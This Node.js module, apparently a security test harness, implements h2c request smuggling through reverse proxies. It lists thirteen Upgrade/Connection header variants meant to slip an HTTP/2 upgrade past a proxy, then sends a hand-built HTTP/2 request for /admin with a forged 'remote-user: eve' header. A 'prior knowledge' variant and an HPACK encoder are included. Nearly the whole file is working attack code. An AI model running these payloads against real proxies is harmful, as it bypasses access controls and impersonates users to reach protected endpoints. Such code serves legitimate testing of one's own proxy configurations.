// HTTP/2 in clear text (h2c), which a client requests from an app through a proxy that passes any Upgrade on. Frames are
// built by hand, since Node.js's client can't begin a session in the middle of a connection.

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const [HEADERS, SETTINGS] = [1, 4];
const END_OF_STREAM_AND_HEADERS = 5;

const WISH = "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA";

/** Header lines that request HTTP/2 from an app, or that a parser of lists could read as such a request. */
export const UPGRADES = [
  ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", WISH],
  ["Connection: Upgrade", "Upgrade: h2c", WISH],
  ["Connection: upgrade, http2-settings", "Upgrade: H2C", WISH],
  ["Connection: Upgrade, HTTP2-Settings", "Upgrade: websocket, h2c", WISH],
  ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c,websocket", WISH],
  ["Connection: Upgrade, HTTP2-Settings", "Upgrade: websocket", "Upgrade: h2c", WISH],
  ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "Upgrade: websocket", WISH],
  ["Connection: Upgrade", "Connection: HTTP2-Settings", "Upgrade:\th2c ", WISH],
  ["Connection: Upgrade, HTTP2-Settings, Remote-User, X-Forwarded-Uri", "Upgrade: h2c", WISH],
  ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c/1", WISH],
  ["Connection: Upgrade", "Upgrade: TLS/1.0, h2c", WISH],
  ["Connection: keep-alive", "Upgrade: h2c", WISH],
  ["Connection: Upgrade, HTTP2-Settings", "UPGRADE: WebSocket", WISH],
];

/**
 * Sends a request with these header lines, by default for a public page, followed by an HTTP/2 request for /admin as
 * Eve. Returns everything received until the other side closes or stops sending.
 */
export function smuggle(connect, host, lines, requestLine = "GET /public/x HTTP/1.1") {
  const asked = { ":method": "GET", ":scheme": "http", ":authority": host, ":path": "/admin", "remote-user": "eve" };
  return converse(connect, [
    Buffer.from([requestLine, `Host: ${host}`, "Accept: text/html", ...lines, "", ""].join("\r\n"), "latin1"),
    Buffer.concat([PREFACE, frame(SETTINGS, 0, 0), frame(HEADERS, END_OF_STREAM_AND_HEADERS, 3, fields(asked))]),
  ]);
}

/** HTTP/2 from the first byte on, without an upgrade (prior knowledge). */
export function withPriorKnowledge(connect, host, path, user) {
  const asked = { ":method": "GET", ":scheme": "http", ":authority": host, ":path": path, "remote-user": user };
  const stream = frame(HEADERS, END_OF_STREAM_AND_HEADERS, 1, fields(asked));
  return converse(connect, [Buffer.concat([PREFACE, frame(SETTINGS, 0, 0), stream])]);
}

/** Writes each part after an answer to the previous one. */
function converse(connect, parts) {
  return new Promise((done) => {
    const waiting = [...parts];
    const socket = connect();
    socket.write(waiting.shift());
    let answer = "";
    socket.setTimeout(400, () => socket.destroy());
    socket.on("data", (data) => {
      answer += data.toString("latin1");
      if (waiting.length) socket.write(waiting.shift());
    });
    socket.on("error", () => {});
    socket.on("close", () => done(answer));
  });
}

function frame(kind, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Encodes each as HPACK's "literal header field never indexed, new name". */
function fields(of) {
  const text = (value) => [Buffer.from([value.length]), Buffer.from(value, "latin1")];
  return Buffer.concat(Object.entries(of).flatMap(([name, value]) => [Buffer.from([0x10]), ...text(name), ...text(value)]));
}
